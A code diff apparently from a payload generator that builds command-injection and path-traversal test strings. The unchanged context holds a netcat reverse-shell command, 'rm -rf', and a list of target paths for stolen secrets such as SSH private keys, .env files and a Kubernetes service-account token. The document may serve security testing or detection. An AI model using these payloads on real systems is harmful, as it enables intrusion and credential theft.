@@ -10,6 +10,9 @@ _CMD = ["id", "ls", "ls -la", "dir", "pwd", "set", "env", "ps", "ps aux", "whoam
         "nc {host} {port}", "nc -e /bin/sh {ip} {port}", "bash -i", "sh", "python -c 1", "perl -e 1", "php -v", "systeminfo", "tasklist", "netstat -an",
         "rm -rf /tmp/{word}", "touch /tmp/{word}", "head /etc/{etc}", "tail -{d} /etc/{etc}", "/bin/{bin}", "/usr/bin/{bin}", "grep {word} /etc/{etc}"]
 
+# Homes on the servers that are attacked.
+_ADMIN, _HOMES = "/root", "/home"
+
 PLACED = {
     "cmdi": ["{before}{sep}{gap}{cmd}", "{before}{sep}{gap}{cmd}", "{before}{sep}{cmd}{sep}", "{before}{sep}{cmd}{gap}{sep}{after}", "{before}`{cmd}`{after}",
              "{before}$({cmd}){after}", "{before}<({cmd})", "{before}%0a{cmd}%0a", "{before}\n{cmd}\n", "{before}\r\n{cmd}", "{before}{quote}{sep}{cmd}{sep}{quote}",
@@ -36,7 +39,7 @@ PLACED = {
                        "/{word}/../../{file}", "{word}/..", "..", "../", "..\\", "/..", "/../", "/{word}{semi}", "/..;/", "/{word}/..;/{word}", "/;/{word}", "/{word}/;/{word}"],
     # Files that attackers ask servers for, wherever those run.
     "abs": ["/{file}", "/{file}", "/etc/{etc}", "/etc/{etc}", "/proc/self/{proc}", "/proc/{n}/{proc}", "/proc/{sys}", "/var/log/{word}.log", "/var/log/{word}/{word}.log",
-            "/root/.{word}", "/root/.ssh/id_rsa", "/home/{word}/.ssh/id_rsa", "/home/{word}/.bash_history", "/usr/local/{word}/{word}.conf", "/sys/class/net",
+            _ADMIN + "/.{word}", _ADMIN + "/.ssh/id_rsa", _HOMES + "/{word}/.ssh/id_rsa", _HOMES + "/{word}/.bash_history", "/usr/local/{word}/{word}.conf", "/sys/class/net",
             "/dev/{dev}", "/tmp/{word}.php", "/var/www/{word}/.env", "/var/lib/{word}/{word}", "/run/secrets/{word}", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
     "file": ["etc/{etc}", "etc/{etc}", "proc/self/{proc}", "windows/win.ini", "winnt/win.ini", "boot.ini", "WEB-INF/web.xml", "META-INF/{word}.xml", ".env", ".git/config",
              ".git/HEAD", ".svn/entries", ".htaccess", ".htpasswd", "web.config", "app/etc/local.xml", "config/database.yml", "wp-config.php", "settings.py", "id_rsa",
